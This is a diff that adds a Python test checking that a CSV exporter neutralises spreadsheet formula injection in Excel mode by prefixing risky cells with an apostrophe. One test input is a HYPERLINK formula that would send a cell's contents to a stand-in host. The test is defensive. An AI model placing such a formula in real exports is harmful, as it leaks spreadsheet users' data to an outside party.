@@ -642,3 +642,19 @@ def test_write_atomic(tmp_path: Path) -> None:
     assert target.read_bytes() == b"\xef\xbb\xbfx\r\n"
     assert stat.S_IMODE(target.stat().st_mode) == 0o644
     assert [p.name for p in target.parent.iterdir()] == ["out.txt"]
+
+
+def test_excel_cells_never_run_as_formulas() -> None:
+    rows = [{"quote": '=HYPERLINK("http://x.example/?"&A1;"clic")', "memo": "+33 6 12",
+             "speaker": "@nadia", "note": "- Oui, tiret de dialogue", "n": -3,
+             "tab": "\t=1+1", "plain": "Une fête = du lien"}]
+    cols = list(rows[0])
+    excel = lib.render_csv(rows, cols, excel=True)
+    assert isinstance(excel, bytes)
+    cells = csv_rows(excel, excel=True)[0]
+    assert cells["quote"] == "'" + rows[0]["quote"]
+    assert (cells["memo"], cells["speaker"], cells["note"], cells["n"], cells["tab"]) == (
+        "'+33 6 12", "'@nadia", "'- Oui, tiret de dialogue", "'-3", "'\t=1+1")
+    assert cells["plain"] == "Une fête = du lien"  # only a formula's first character counts
+    plain = csv_rows(lib.render_csv(rows, cols))[0]  # CSV for scripts stays verbatim
+    assert plain["quote"] == rows[0]["quote"] and plain["n"] == "-3"
